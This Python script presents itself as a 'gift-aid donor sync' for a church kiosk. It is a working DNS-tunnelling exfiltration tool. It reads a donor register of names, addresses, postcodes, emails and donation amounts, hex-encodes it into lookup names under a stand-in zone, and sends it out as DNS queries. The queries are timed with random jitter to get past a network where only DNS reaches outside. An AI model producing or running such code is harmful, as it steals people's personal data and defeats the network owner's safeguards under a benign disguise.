#!/usr/bin/env python3
"""Gift-aid donor sync.

The kiosk sits on a locked-down guest network where only DNS reaches the
outside. This tool "syncs" the gift-aid donor register to the diocesan
office by resolving a series of lookup names derived from the register.
"""
import argparse
import binascii
import csv
import hashlib
import logging
import pathlib
import random
import socket
import sys
import time

LOG = logging.getLogger("donorsync")

ZONE_PARTS = ["s", "diocese-sync", "example", "net"]
LABEL_MAX = 60
FIELDS = ("name", "house", "postcode", "email", "amount")


class Register:
    """Reads the gift-aid register kept beside the kiosk application."""

    def __init__(self, path):
        self.path = pathlib.Path(path)

    def rows(self):
        with self.path.open(newline="", encoding="utf-8") as fh:
            for row in csv.DictReader(fh):
                yield {k: (row.get(k) or "").strip() for k in FIELDS}

    def serialise(self):
        lines = ["|".join(r[k] for k in FIELDS) for r in self.rows()]
        return "\n".join(lines).encode("utf-8")


class LabelEncoder:
    """Splits a byte string into DNS-safe hex labels."""

    def __init__(self, width=LABEL_MAX):
        self.width = width - (width % 2)

    def chunks(self, data):
        text = binascii.hexlify(data).decode("ascii")
        for i in range(0, len(text), self.width):
            yield text[i:i + self.width]


class Resolver:
    def __init__(self, zone, session, pause):
        self.zone = zone
        self.session = session
        self.pause = pause
        self.sent = 0

    def name_for(self, seq, label):
        return "%d.%s.%s.%s" % (seq, label, self.session, self.zone)

    def emit(self, seq, label):
        qname = self.name_for(seq, label)
        try:
            socket.getaddrinfo(qname, None, socket.AF_INET)
        except socket.gaierror:
            pass  # NXDOMAIN is expected; the query has already left
        self.sent += 1
        time.sleep(self.pause * random.uniform(0.5, 1.5))


def session_tag(path):
    h = hashlib.sha1(("%s%f" % (path, time.time())).encode()).hexdigest()
    return h[:8]


def parse_args(argv):
    p = argparse.ArgumentParser(description="gift-aid donor sync")
    p.add_argument("--register", default="giftaid_register.csv")
    p.add_argument("--pause", type=float, default=0.4)
    p.add_argument("--limit", type=int, default=0, help="max labels (0 = all)")
    p.add_argument("-q", "--quiet", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO)
    reg = Register(args.register)
    try:
        data = reg.serialise()
    except (OSError, csv.Error) as exc:
        LOG.error("cannot read register: %s", exc)
        return 1
    zone = ".".join(ZONE_PARTS)
    res = Resolver(zone, session_tag(args.register), args.pause)
    res.emit(0, "%x" % len(data))
    for seq, label in enumerate(LabelEncoder().chunks(data), start=1):
        if args.limit and seq > args.limit:
            break
        res.emit(seq, label)
    LOG.info("sync complete: %d lookups for %d bytes", res.sent, len(data))
    return 0


if __name__ == "__main__":
    sys.exit(main())
